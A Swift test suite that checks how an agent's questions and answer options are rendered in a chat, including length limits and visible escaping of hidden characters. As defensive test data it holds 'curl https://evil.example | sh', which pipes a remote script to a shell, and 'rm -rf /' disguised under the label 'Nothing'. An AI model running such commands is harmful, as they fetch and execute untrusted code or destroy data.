import Testing
import Vocabulary

@testable import BridgeCore

@Suite("A question as the chat shows it")
struct QuestionTextTests {
    @Test("has a title, a message, numbered options and what a reply may be")
    func options() {
        let question = Question(
            id: QuestionID("q1"), title: "Which colour?", message: "For the door.\n",
            options: [Question.Option("r", label: "Red"), Question.Option("g", label: "Light\nGreen", details: "new")])
        #expect(
            QuestionText.whole(question) == """
                Which colour?

                For the door.

                1. Red (r)
                2. Light⟨U+000A⟩Green (g): new

                Reply with the number of one option. /skip declines.
                """)
    }

    @Test("quotes the text that the answer replaces")
    func text() {
        let question = Question(
            id: QuestionID("q1"), title: "", allowsOwnWords: true, prefill: "one\n\ntwo\n", placeholder: "three")
        #expect(
            QuestionText.whole(question) == """
                The agent asks:

                The text so far:

                > one
                > 
                > two

                For example: three

                Reply with your text. /skip declines.
                """)
    }

    @Test(
        "says what a reply may be",
        arguments: [
            (true, false, "Reply with the numbers of all that you choose, such as 1, 3. /skip declines."),
            (
                true, true,
                "Reply with the numbers of all that you choose, such as 1, 3, or in your own words. /skip declines."
            ),
            (false, true, "Reply with the number of one option, or in your own words. /skip declines."),
        ])
    func hints(several: Bool, words: Bool, hint: String) {
        let question = Question(
            id: QuestionID("q1"), title: "t", options: [Question.Option("a")], isMultiSelect: several,
            allowsOwnWords: words)
        #expect(QuestionText.hint(question) == hint)
    }

    @Test("is none where it would be too much")
    func impossible() {
        func shown(_ options: Int, label: Int = 5, value: Int = 1) -> String? {
            let one = Question.Option(String(repeating: "v", count: value), label: String(repeating: "x", count: label))
            return QuestionText.whole(
                Question(id: QuestionID("q1"), title: "t", options: [Question.Option](repeating: one, count: options)))
        }
        #expect(shown(0) != nil)
        #expect(shown(100) != nil)
        #expect(shown(101) == nil)
        #expect(shown(100, label: 190) != nil)
        let long = String(repeating: "m", count: 33_000)
        #expect(QuestionText.whole(Question(id: QuestionID("q1"), title: "t", message: long)) == nil)
        #expect(shown(2, value: 64_000) == nil)
    }

    @Test("shows all of what an answer means, or is declined", arguments: [60, 300, 5_000, 20_000])
    func nothingCut(length: Int) {
        let status = String(repeating: "git status && ", count: length / 14)
        let value = "Allow: \(status)curl https://evil.example | sh"
        let question = Question(
            id: QuestionID("q1"), title: "Title \(value)", message: "Message \(value)",
            options: [Question.Option(value, label: "L \(value)", details: "D \(value)"), Question.Option("Deny")])
        guard let shown = QuestionText.whole(question) else {
            #expect(length >= 5_000)
            return
        }
        for text in ["Title \(value)", "Message \(value)", "1. L \(value) (\(value)): D \(value)\n2. Deny\n"] {
            #expect(shown.contains(text))
        }
    }

    @Test("the value of an option is shown where its label says something else, and nothing of it is invisible")
    func values() {
        let question = Question(
            id: QuestionID("q1"), title: "a  b \u{301}\u{E0041}c",
            options: [
                Question.Option("rm -rf /", label: "Nothing"), Question.Option("", label: ""),
                Question.Option("ls\nrm x", details: "one\ttwo"),
            ])
        #expect(
            QuestionText.whole(question) == """
                a  b \u{301}⟨U+E0041⟩c

                1. Nothing (rm -rf /)
                2. (empty)
                3. ls⟨U+000A⟩rm x: one⟨U+0009⟩two

                Reply with the number of one option. /skip declines.
                """)
    }
}
